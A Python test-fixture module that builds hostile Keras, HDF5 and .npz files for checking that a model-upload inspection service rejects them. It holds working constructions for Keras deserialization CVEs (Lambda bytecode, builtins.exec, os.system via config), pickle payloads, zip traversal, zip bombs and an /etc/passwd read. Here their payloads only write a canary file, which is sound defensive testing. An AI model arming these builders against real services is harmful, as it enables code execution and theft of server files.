"""Generators of hostile model and dataset files, one per attack class, for tests at every level.

Each generator is `generate(tmp_dir, canary) -> Path`: it writes an attack file under `tmp_dir` and returns its
path. Where the attack runs code or writes files, its payload is a harmless canary: it creates the file `canary`
and nothing else, and only if attacker-controlled code actually runs (a Lambda whose bytecode opens the canary, an
`exec` of `open(canary, 'w')`, a `keras.utils.get_file` "download" of a local file into the canary's folder, a
pickle whose reduce opens the canary, ...). Files are built the way an attacker would build them: save a real
model with Keras, then edit config.json in the zip, or rewrite attributes and datasets of a real .h5 with h5py.

Registries (name -> Hostile(generate, error, fragment)):
  MODEL_ATTACKS    uploads of a model file (inspect_model_file; the service answers 4xx)
  DATASET_ATTACKS  uploads of a dataset .npz (inspect_npz)
  HOSTILE          both
`error` is the EngineError subclass inspection must raise; `fragment` a piece of the message naming the thing.
"""

from __future__ import annotations

import base64
import copy
import functools
import io
import json
import marshal
import os
import pickle
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import h5py
import numpy as np

from workers.engine.errors import DataError, EngineError, ModelRejected, UnsupportedFile


class Hostile(NamedTuple):
    generate: Callable[[Path, Path], Path]
    error: type[EngineError]
    fragment: str


# ---------------------------------------------------------------------------------------------------------------
# Building blocks: a real model saved by Keras, zip rewriting, payloads
# ---------------------------------------------------------------------------------------------------------------


def _small_model(with_lambda: bool = False):
    import keras

    inputs = keras.Input((4,), name="pixels")
    x = keras.layers.Dense(3, activation="relu", name="dense")(inputs)
    if with_lambda:
        x = keras.layers.Lambda(lambda t: t, name="lambda_1")(x)
    outputs = keras.layers.Dense(2, activation="softmax", name="head")(x)
    model = keras.Model(inputs, outputs, name="victim")
    model.compile("adam", "sparse_categorical_crossentropy", metrics=["accuracy"])
    return model


@functools.cache
def _saved_keras_members(with_lambda: bool = False) -> tuple[tuple[str, bytes], ...]:
    """(name, bytes) of every member of a small model saved by Keras as .keras (built once per process)."""
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "model.keras"
        _small_model(with_lambda).save(path)
        with zipfile.ZipFile(path) as zf:
            return tuple((info.filename, zf.read(info)) for info in zf.infolist())


@functools.cache
def _saved_h5_bytes(with_lambda: bool = False) -> bytes:
    """A small model saved by Keras in the legacy HDF5 format (built once per process)."""
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "model.h5"
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            _small_model(with_lambda).save(path)
        return path.read_bytes()


def write_zip(dst: Path, members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> Path:
    """Write members verbatim: names are not sanitised (that is the point), duplicates are kept."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names
        with zipfile.ZipFile(dst, "w") as zf:
            for name, data in members:
                info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
                info.compress_type = compression
                zf.writestr(info, data)
    return dst


def big_config_model(directory: Path) -> Path:
    """A model that passes inspection but whose config.json is about 9 MiB: a StringLookup with an inline
    vocabulary of a million words. Inspecting it takes some 100 MiB and a second or two."""
    import keras

    keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, name="dense")]).save(directory / "small.keras")
    with zipfile.ZipFile(directory / "small.keras") as zf:
        members = [(info.filename, zf.read(info)) for info in zf.infolist()]
    config = json.loads(dict(members)["config.json"])
    lookup = copy.deepcopy(config["config"]["layers"][-1])
    lookup.update(
        class_name="StringLookup",
        name="lookup",
        config={"name": "lookup", "vocabulary": [f"{i:x}" for i in range(1_000_000)], "num_oov_indices": 1},
    )
    config["config"]["layers"].append(lookup)
    members = [(n, json.dumps(config).encode() if n == "config.json" else d) for n, d in members]
    return write_zip(directory / "big_config.keras", members)


def _keras_with_config(
    tmp_dir: Path,
    name: str,
    edit: Callable[[dict], None],
    with_lambda: bool = False,
    extra: list[tuple[str, bytes]] = (),
) -> Path:
    """Save a real model, edit its config.json as an attacker would, and zip it back up."""
    members = []
    for member, data in _saved_keras_members(with_lambda):
        if member == "config.json":
            config = json.loads(data)
            edit(config)
            data = json.dumps(config).encode()
        members.append((member, data))
    return write_zip(Path(tmp_dir) / name, members + list(extra))


def _layers(config: dict) -> list[dict]:
    return config["config"]["layers"]


def _payload_code(canary: Path) -> str:
    """Python bytecode for `lambda x: (open(canary, 'w').close(), x)[1]`, encoded as Keras encodes a Lambda."""
    fn = eval(compile(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]", "<payload>", "eval"))
    return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")


def _arm_lambdas(config: dict, canary: Path) -> None:
    """Swap the bytecode of every Lambda in a config for the canary payload."""
    for layer in _layers(config):
        if layer["class_name"] == "Lambda":
            layer["config"]["function"]["config"]["code"] = _payload_code(canary)


def _function_layer(module: str, function: str, name: str, args: list, kwargs: dict) -> dict:
    """A 'layer' entry that is really a reference to a function, called by Keras with attacker-chosen args."""
    return {
        "module": module,
        "class_name": "function",
        "config": function,
        "registered_name": function,
        "name": name,
        "inbound_nodes": [{"args": args, "kwargs": kwargs}],
    }


class _OpenCanary:
    """Unpickling this object runs `open(canary, 'w')`."""

    def __init__(self, canary: Path):
        self.canary = str(canary)

    def __reduce__(self):
        return (open, (self.canary, "w"))


# ---------------------------------------------------------------------------------------------------------------
# .keras attacks
# ---------------------------------------------------------------------------------------------------------------


def keras_lambda(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2024-3660: a Lambda layer whose marshalled bytecode writes the canary when the model is built."""
    return _keras_with_config(tmp_dir, "lambda.keras", lambda c: _arm_lambdas(c, canary), with_lambda=True)


def keras_builtins_exec(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2025-1550 style: a 'layer' that is builtins.exec, called with attacker code as its input."""

    def edit(config):
        code = f"open({str(canary)!r}, 'w').close()"
        _layers(config).insert(1, _function_layer("builtins", "exec", "exec_layer", [code], {}))

    return _keras_with_config(tmp_dir, "builtins_exec.keras", edit)


def keras_os_system(tmp_dir: Path, canary: Path) -> Path:
    """safe_mode bypass through a module outside keras: a 'layer' that is os.system running a shell command."""

    def edit(config):
        _layers(config).insert(1, _function_layer("os", "system", "shell", [f"touch '{canary}'"], {}))

    return _keras_with_config(tmp_dir, "os_system.keras", edit)


def keras_foreign_module_class(tmp_dir: Path, canary: Path) -> Path:
    """A stock class name under a module of the attacker's choosing (import side effects, lookalike classes)."""

    def edit(config):
        _layers(config)[1]["module"] = "antigravity"  # importing it opens a web browser

    return _keras_with_config(tmp_dir, "foreign_module.keras", edit)


def keras_registered_name(tmp_dir: Path, canary: Path) -> Path:
    """A stock layer whose registered_name points at a custom object registered by some installed package."""

    def edit(config):
        _layers(config)[1]["registered_name"] = "keras_hub>Dense"

    return _keras_with_config(tmp_dir, "registered_name.keras", edit)


def keras_get_file(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2025-8747: keras.utils.get_file as a 'layer', 'downloading' a local file:// URL into the canary."""
    source = Path(tmp_dir) / "exfiltrated.txt"
    source.write_text("secret\n")

    def edit(config):
        kwargs = {
            "fname": canary.name,
            "origin": source.resolve().as_uri(),
            "cache_dir": str(canary.parent),
            "cache_subdir": ".",
        }
        _layers(config).insert(1, _function_layer("keras.utils", "get_file", "fetch", [], kwargs))

    return _keras_with_config(tmp_dir, "get_file.keras", edit)


def keras_enable_unsafe_chain(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2025-9906: call keras.config.enable_unsafe_deserialization from the config, then load a Lambda."""

    def edit(config):
        _arm_lambdas(config, canary)
        _layers(config).insert(1, _function_layer("keras.config", "enable_unsafe_deserialization", "unlock", [], {}))

    return _keras_with_config(tmp_dir, "unsafe_chain.keras", edit, with_lambda=True)


def keras_tfsm_layer(tmp_dir: Path, canary: Path) -> Path:
    """A TFSMLayer: loads (and runs) a SavedModel from a path on the server."""

    def edit(config):
        layer = _layers(config)[1]
        layer["class_name"] = "TFSMLayer"
        layer["config"] = {"name": "dense", "filepath": str(tmp_dir / "saved_model"), "call_endpoint": "serve"}

    return _keras_with_config(tmp_dir, "tfsm.keras", edit)


def keras_vocabulary_file(tmp_dir: Path, canary: Path) -> Path:
    """A StringLookup whose vocabulary is a file on the server (reads server files into the model)."""

    def edit(config):
        layers = _layers(config)
        lookup = copy.deepcopy(layers[1])
        lookup["class_name"] = "StringLookup"
        lookup["config"] = {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1}
        lookup["name"] = "lookup"
        layers.insert(1, lookup)

    return _keras_with_config(tmp_dir, "vocabulary_file.keras", edit)


def keras_unknown_custom_object(tmp_dir: Path, canary: Path) -> Path:
    """A custom layer class from the attacker's own package."""

    def edit(config):
        layer = _layers(config)[1]
        layer.update(module="evil_layers", class_name="Backdoor", registered_name="evil>Backdoor")

    return _keras_with_config(tmp_dir, "custom_object.keras", edit)


def keras_huge_layer_config(tmp_dir: Path, canary: Path) -> Path:
    """A Dense layer whose config declares a 2**20 x 2**20 kernel: Keras allocates it while building the model,
    before it ever compares with the (small) weights file."""

    def edit(config):
        layer = _layers(config)[1]
        layer["config"]["units"] = 2**20
        layer["build_config"] = {"input_shape": [None, 2**20]}

    return _keras_with_config(tmp_dir, "huge_layer.keras", edit)


def keras_deep_config(tmp_dir: Path, canary: Path) -> Path:
    """A config nested 50,000 levels deep (crashes recursive parsers)."""
    members = [(n, d) for n, d in _saved_keras_members() if n != "config.json"]
    config = json.dumps(json.loads(dict(_saved_keras_members())["config.json"]))
    deep = "[" * 50_000 + "]" * 50_000
    config = config.replace('"trainable": true', f'"trainable": {deep}', 1)
    return write_zip(Path(tmp_dir) / "deep.keras", [("config.json", config.encode())] + members)


def keras_zip_bomb(tmp_dir: Path, canary: Path) -> Path:
    """A weights member that inflates ~1000x (64 MiB of zeros in ~64 KiB)."""
    dst = Path(tmp_dir) / "bomb.keras"
    members = [(n, d) for n, d in _saved_keras_members() if n != "model.weights.h5"]
    write_zip(dst, members)
    with zipfile.ZipFile(dst, "a") as zf:
        info = zipfile.ZipInfo("model.weights.h5", (2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as f:
            chunk = bytes(1 << 20)
            for _ in range(64):
                f.write(chunk)
    return dst


def keras_parent_path_member(tmp_dir: Path, canary: Path) -> Path:
    """A member named ../.../canary: extracting the archive writes outside the extraction folder."""
    name = os.path.relpath(canary, Path(tmp_dir) / "extracted")
    return write_zip(Path(tmp_dir) / "traversal.keras", list(_saved_keras_members()) + [(name, b"pwned\n")])


def keras_absolute_member(tmp_dir: Path, canary: Path) -> Path:
    """A member with an absolute path (the canary's)."""
    return write_zip(Path(tmp_dir) / "absolute.keras", list(_saved_keras_members()) + [(str(canary), b"pwned")])


def keras_pickle_member(tmp_dir: Path, canary: Path) -> Path:
    """An extra member holding a pickle that opens the canary when unpickled."""
    payload = pickle.dumps(_OpenCanary(canary))
    return write_zip(Path(tmp_dir) / "pickle_member.keras", list(_saved_keras_members()) + [("model.pkl", payload)])


def keras_duplicate_config(tmp_dir: Path, canary: Path) -> Path:
    """Two config.json members: a benign one for naive scanners, an armed one that zipfile reads last."""
    armed = dict(_saved_keras_members(with_lambda=True))["config.json"]
    config = json.loads(armed)
    _arm_lambdas(config, canary)
    members = list(_saved_keras_members()) + [("config.json", json.dumps(config).encode())]
    return write_zip(Path(tmp_dir) / "duplicate.keras", members)


def keras_weights_external_link(tmp_dir: Path, canary: Path) -> Path:
    """model.weights.h5 inside the .keras whose layer vars are an HDF5 external link to another file."""
    secret = _secret_h5(tmp_dir)
    members = []
    for member, data in _saved_keras_members():
        if member == "model.weights.h5":
            buf = io.BytesIO(data)
            with h5py.File(buf, "r+") as f:
                del f["layers/dense/vars"]
                f["layers/dense/vars"] = h5py.ExternalLink(str(secret), "/vars")
            data = buf.getvalue()
        members.append((member, data))
    return write_zip(Path(tmp_dir) / "external_weights.keras", members)


def keras_escaped_quotes_config(tmp_dir: Path, canary: Path) -> Path:
    """config.json is one unterminated string of 64,000 escaped quotes (a 385-byte upload once deflated): a string
    pattern that retries from every quote scans the rest of the text each time, quadratic time (48 s)."""
    members = [(n, d) for n, d in _saved_keras_members() if n != "config.json"]
    config = b'"' + b'\\"' * 64_000
    return write_zip(
        Path(tmp_dir) / "escaped_quotes.keras", [("config.json", config)] + members, compression=zipfile.ZIP_DEFLATED
    )


def keras_escaped_quotes_metadata(tmp_dir: Path, canary: Path) -> Path:
    """The same unterminated string of escaped quotes (32,000 of them) in metadata.json (12 s)."""
    members = [(n, d) for n, d in _saved_keras_members() if n != "metadata.json"]
    metadata = b'"' + b'\\"' * 32_000
    return write_zip(
        Path(tmp_dir) / "escaped_quotes_metadata.keras",
        members + [("metadata.json", metadata)],
        compression=zipfile.ZIP_DEFLATED,
    )


def _keras_with_weights(tmp_dir: Path, name: str, edit: Callable[[h5py.File], None]) -> Path:
    """Save a real model, edit its model.weights.h5 with h5py, and zip it back up."""
    members = []
    for member, data in _saved_keras_members():
        if member == "model.weights.h5":
            buf = io.BytesIO(data)
            with h5py.File(buf, "r+") as f:
                edit(f)
            data = buf.getvalue()
        members.append((member, data))
    return write_zip(Path(tmp_dir) / name, members)


LOOP = "layers/dense/loop"  # a group hard-linked into itself


def _self_linked_group(f: h5py.File, at: str = LOOP) -> None:
    group = f.create_group(at)
    group["loop"] = group


def keras_weights_link_maze(tmp_dir: Path, canary: Path, depth: int = 100_000, links: int = 4) -> Path:
    """A valid model whose weights also hold a group hard-linked to itself and soft links whose targets walk that
    cycle `depth` levels deep (~500 KB each): following the targets costs one object open per level (180 s per
    inspection), and every target resolves inside the file."""

    def edit(f):
        _self_linked_group(f)
        for i in range(links):
            f[f"maze_{i}"] = h5py.SoftLink("/" + LOOP + "/loop" * depth)

    return _keras_with_weights(tmp_dir, "link_maze.keras", edit)


def keras_weights_self_linked_group(tmp_dir: Path, canary: Path) -> Path:
    """A weights file whose group /layers/dense/loop holds a hard link to itself (a cycle for naive walkers)."""
    return _keras_with_weights(tmp_dir, "self_linked.keras", _self_linked_group)


def keras_deep_sequential(tmp_dir: Path, canary: Path, layers: int = 4_000) -> Path:
    """A Sequential model of `layers` Dense(4) layers (2.4 MB): within max_layers, but Keras rebuilds a Sequential
    after each layer it adds while loading, so loading it takes hours. Not a MODEL_ATTACKS entry: inspection itself
    passes it and reports `sequential_layers`; the service bounds that (limits.max_sequential_layers)."""
    import keras

    path = Path(tmp_dir) / "deep_sequential.keras"
    keras.Sequential([keras.Input((4,)), keras.layers.Dense(4, name="dense")]).save(path)
    with zipfile.ZipFile(path) as zf:
        members = [(info.filename, zf.read(info)) for info in zf.infolist()]
    config = json.loads(dict(members)["config.json"])
    dense = _layers(config)[1]
    clones = []
    for i in range(layers):
        clone = copy.deepcopy(dense)
        clone["config"]["name"] = f"dense_{i}"
        clones.append(clone)
    config["config"]["layers"][1:] = clones
    members = [(n, json.dumps(config).encode() if n == "config.json" else d) for n, d in members]
    return write_zip(path, members)


# ---------------------------------------------------------------------------------------------------------------
# Legacy .h5 attacks (a real Keras-saved .h5, then rewritten with h5py)
# ---------------------------------------------------------------------------------------------------------------


def _saved_h5(tmp_dir: Path, name: str, with_lambda: bool = False) -> Path:
    path = Path(tmp_dir) / name
    path.write_bytes(_saved_h5_bytes(with_lambda))
    return path


def _secret_h5(tmp_dir: Path) -> Path:
    path = Path(tmp_dir) / "secret.h5"
    with h5py.File(path, "w") as f:
        f["vars/0"] = np.arange(12, dtype="float32").reshape(4, 3)
        f["vars/1"] = np.zeros(3, dtype="float32")
    return path


KERNEL = "model_weights/dense/dense/kernel"


def h5_lambda(tmp_dir: Path, canary: Path) -> Path:
    """CVE-2024-3660 in the legacy format: a Lambda's bytecode rewritten in the model_config attribute."""
    path = _saved_h5(tmp_dir, "lambda.h5", with_lambda=True)
    with h5py.File(path, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        _arm_lambdas(config, canary)
        f.attrs["model_config"] = json.dumps(config)
    return path


def h5_training_config_function(tmp_dir: Path, canary: Path) -> Path:
    """A training_config whose loss is a reference to os.system."""
    path = _saved_h5(tmp_dir, "training_config.h5")
    with h5py.File(path, "r+") as f:
        training = json.loads(f.attrs["training_config"])
        training["loss"] = {"module": "os", "class_name": "function", "config": "system", "registered_name": None}
        f.attrs["training_config"] = json.dumps(training)
    return path


def h5_oversized_tensor(tmp_dir: Path, canary: Path) -> Path:
    """A kernel declaring 2**40 float32 elements (4 TiB) in a file of a few KiB (chunks never written)."""
    path = _saved_h5(tmp_dir, "oversized.h5")
    with h5py.File(path, "r+") as f:
        del f[KERNEL]
        f.create_dataset(KERNEL, shape=(2**20, 2**20), dtype="float32", chunks=(64, 64))
    return path


def h5_external_link(tmp_dir: Path, canary: Path) -> Path:
    """A layer's weight group replaced by an external link into another HDF5 file on the server."""
    secret = _secret_h5(tmp_dir)
    path = _saved_h5(tmp_dir, "external_link.h5")
    with h5py.File(path, "r+") as f:
        del f["model_weights/dense/dense"]
        f["model_weights/dense/dense"] = h5py.ExternalLink(str(secret), "/vars")
    return path


def h5_external_storage(tmp_dir: Path, canary: Path) -> Path:
    """A kernel whose raw data lives in an external file (reads arbitrary server files as weights)."""
    raw = Path(tmp_dir) / "server_file.bin"
    raw.write_bytes(b"secret--" * 6)
    path = _saved_h5(tmp_dir, "external_storage.h5")
    with h5py.File(path, "r+") as f:
        del f[KERNEL]
        f.create_dataset(KERNEL, shape=(4, 3), dtype="float32", external=[(str(raw), 0, 48)])
    return path


def h5_virtual_dataset(tmp_dir: Path, canary: Path) -> Path:
    """A kernel that is a virtual dataset mapped from another file."""
    secret = _secret_h5(tmp_dir)
    path = _saved_h5(tmp_dir, "virtual.h5")
    layout = h5py.VirtualLayout(shape=(4, 3), dtype="float32")
    layout[:] = h5py.VirtualSource(str(secret), "vars/0", shape=(4, 3))
    with h5py.File(path, "r+") as f:
        del f[KERNEL]
        f.create_virtual_dataset(KERNEL, layout)
    return path


def h5_soft_link_outside(tmp_dir: Path, canary: Path) -> Path:
    """A soft link whose target climbs out of the file's hierarchy."""
    path = _saved_h5(tmp_dir, "soft_link.h5")
    with h5py.File(path, "r+") as f:
        del f[KERNEL]
        f[KERNEL] = h5py.SoftLink("/model_weights/../../etc/secret")
    return path


def h5_self_linked_group(tmp_dir: Path, canary: Path) -> Path:
    """A legacy .h5 whose model_weights/dense group holds a hard link to itself."""
    path = _saved_h5(tmp_dir, "self_linked.h5")
    with h5py.File(path, "r+") as f:
        _self_linked_group(f, "model_weights/dense/loop")
    return path


def h5_long_soft_link(tmp_dir: Path, canary: Path) -> Path:
    """A legacy .h5 with a soft link whose target is a megabyte long."""
    path = _saved_h5(tmp_dir, "long_soft_link.h5")
    with h5py.File(path, "r+") as f:
        f["model_weights/alias"] = h5py.SoftLink("/model_weights" + "/dense" * 200_000)
    return path


# ---------------------------------------------------------------------------------------------------------------
# Files that are not models at all
# ---------------------------------------------------------------------------------------------------------------


def pickle_model(tmp_dir: Path, canary: Path) -> Path:
    """A pickle (e.g. a joblib/torch-style model) that opens the canary when unpickled."""
    path = Path(tmp_dir) / "model.pkl"
    path.write_bytes(pickle.dumps(_OpenCanary(canary)))
    return path


def saved_model_dir(tmp_dir: Path, canary: Path) -> Path:
    """A TensorFlow SavedModel directory."""
    path = Path(tmp_dir) / "saved_model"
    (path / "variables").mkdir(parents=True)
    (path / "saved_model.pb").write_bytes(b"\x08\x01\x12\x00")
    return path


def tflite_model(tmp_dir: Path, canary: Path) -> Path:
    """A TensorFlow Lite flatbuffer."""
    path = Path(tmp_dir) / "model.tflite"
    path.write_bytes(b"\x1c\x00\x00\x00TFL3" + bytes(64))
    return path


# ---------------------------------------------------------------------------------------------------------------
# Dataset (.npz) attacks
# ---------------------------------------------------------------------------------------------------------------


def npz_object_array(tmp_dir: Path, canary: Path) -> Path:
    """An object array: np.load(allow_pickle=True) unpickles it and opens the canary."""
    path = Path(tmp_dir) / "object.npz"
    x = np.empty(1, dtype=object)
    x[0] = _OpenCanary(canary)
    np.savez(path, x=x, y=np.zeros(1, dtype="int64"))
    return path


def npz_parent_path_member(tmp_dir: Path, canary: Path) -> Path:
    """A member named ../...: extraction writes outside the folder."""
    buf = io.BytesIO()
    np.save(buf, np.zeros(3, dtype="float32"))
    name = os.path.relpath(canary, Path(tmp_dir) / "extracted")
    return write_zip(Path(tmp_dir) / "traversal.npz", [("x.npy", buf.getvalue()), (name, buf.getvalue())])


def npz_bomb(tmp_dir: Path, canary: Path) -> Path:
    """np.savez_compressed of 64 MiB of zeros: ~1000x inflation."""
    path = Path(tmp_dir) / "bomb.npz"
    np.savez_compressed(path, x=np.zeros(64 << 20, dtype="uint8"), y=np.zeros(4, dtype="int64"))
    return path


def npz_oversized_shape(tmp_dir: Path, canary: Path) -> Path:
    """A .npy header declaring 2**40 float64 elements over a few bytes of data."""
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "<f8", "fortran_order": False, "shape": (2**40,)})
    return write_zip(Path(tmp_dir) / "oversized.npz", [("x.npy", buf.getvalue() + bytes(64))])


def npz_pickle_file(tmp_dir: Path, canary: Path) -> Path:
    """A pickle renamed to .npz."""
    path = Path(tmp_dir) / "data.npz"
    path.write_bytes(pickle.dumps(_OpenCanary(canary)))
    return path


MODEL_ATTACKS: dict[str, Hostile] = {
    "keras_lambda": Hostile(keras_lambda, ModelRejected, "layer 'lambda_1' (Lambda) is not allowed"),
    "keras_builtins_exec": Hostile(keras_builtins_exec, ModelRejected, "'builtins.exec'"),
    "keras_os_system": Hostile(keras_os_system, ModelRejected, "'os.system'"),
    "keras_foreign_module_class": Hostile(keras_foreign_module_class, ModelRejected, "module 'antigravity'"),
    "keras_registered_name": Hostile(keras_registered_name, ModelRejected, "registered_name 'keras_hub>Dense'"),
    "keras_get_file": Hostile(keras_get_file, ModelRejected, "'keras.utils.get_file'"),
    "keras_enable_unsafe_chain": Hostile(
        keras_enable_unsafe_chain, ModelRejected, "'keras.config.enable_unsafe_deserialization'"
    ),
    "keras_tfsm_layer": Hostile(keras_tfsm_layer, ModelRejected, "layer 'dense' (TFSMLayer) is not allowed"),
    "keras_vocabulary_file": Hostile(keras_vocabulary_file, ModelRejected, "layer 'lookup' (StringLookup)"),
    "keras_unknown_custom_object": Hostile(
        keras_unknown_custom_object, ModelRejected, "layer 'dense' (Backdoor) is not allowed"
    ),
    "keras_huge_layer_config": Hostile(
        keras_huge_layer_config,
        ModelRejected,
        "layer 'dense' (Dense): the config declares a 1099511627776-element weight",
    ),
    "keras_deep_config": Hostile(keras_deep_config, ModelRejected, "max_json_depth"),
    "keras_zip_bomb": Hostile(keras_zip_bomb, ModelRejected, "member 'model.weights.h5' has compression ratio"),
    "keras_parent_path_member": Hostile(keras_parent_path_member, ModelRejected, "a '..' component"),
    "keras_absolute_member": Hostile(keras_absolute_member, ModelRejected, "an absolute path"),
    "keras_pickle_member": Hostile(keras_pickle_member, ModelRejected, "unexpected member 'model.pkl'"),
    "keras_duplicate_config": Hostile(
        keras_duplicate_config, ModelRejected, "member 'config.json' appears more than once"
    ),
    "keras_weights_external_link": Hostile(
        keras_weights_external_link, ModelRejected, "'/layers/dense/vars' is an external link"
    ),
    "keras_escaped_quotes_config": Hostile(keras_escaped_quotes_config, ModelRejected, "config.json is not valid JSON"),
    "keras_escaped_quotes_metadata": Hostile(
        keras_escaped_quotes_metadata, ModelRejected, "metadata.json is not valid JSON"
    ),
    "keras_weights_link_maze": Hostile(keras_weights_link_maze, ModelRejected, "HDF5 soft link '/maze_0'"),
    "keras_weights_self_linked_group": Hostile(
        keras_weights_self_linked_group, ModelRejected, f"'/{LOOP}/loop' is a second hard link to '/{LOOP}'"
    ),
    "h5_lambda": Hostile(h5_lambda, ModelRejected, "layer 'lambda_1' (Lambda) is not allowed"),
    "h5_training_config_function": Hostile(h5_training_config_function, ModelRejected, "'os.system'"),
    "h5_oversized_tensor": Hostile(h5_oversized_tensor, ModelRejected, f"'/{KERNEL}' declares shape"),
    "h5_external_link": Hostile(h5_external_link, ModelRejected, "'/model_weights/dense/dense' is an external link"),
    "h5_external_storage": Hostile(h5_external_storage, ModelRejected, f"'/{KERNEL}' uses external storage"),
    "h5_virtual_dataset": Hostile(h5_virtual_dataset, ModelRejected, f"'/{KERNEL}' is a virtual dataset"),
    "h5_soft_link_outside": Hostile(h5_soft_link_outside, ModelRejected, f"soft link '/{KERNEL}'"),
    "h5_self_linked_group": Hostile(
        h5_self_linked_group, ModelRejected, "'/model_weights/dense/loop/loop' is a second hard link"
    ),
    "h5_long_soft_link": Hostile(
        h5_long_soft_link, ModelRejected, "HDF5 soft link '/model_weights/alias' (to a 1200015-byte target"
    ),
    "pickle_model": Hostile(pickle_model, UnsupportedFile, "a Python pickle"),
    "saved_model_dir": Hostile(saved_model_dir, UnsupportedFile, "a directory (a TensorFlow SavedModel?)"),
    "tflite_model": Hostile(tflite_model, UnsupportedFile, "a TensorFlow Lite flatbuffer"),
}

DATASET_ATTACKS: dict[str, Hostile] = {
    "npz_object_array": Hostile(npz_object_array, DataError, "array 'x' has dtype object"),
    "npz_parent_path_member": Hostile(npz_parent_path_member, DataError, "a '..' component"),
    "npz_bomb": Hostile(npz_bomb, DataError, "member 'x.npy' has compression ratio"),
    "npz_oversized_shape": Hostile(npz_oversized_shape, DataError, "array 'x' declares shape"),
    "npz_pickle_file": Hostile(npz_pickle_file, UnsupportedFile, "a Python pickle"),
}

HOSTILE: dict[str, Hostile] = {**MODEL_ATTACKS, **DATASET_ATTACKS}
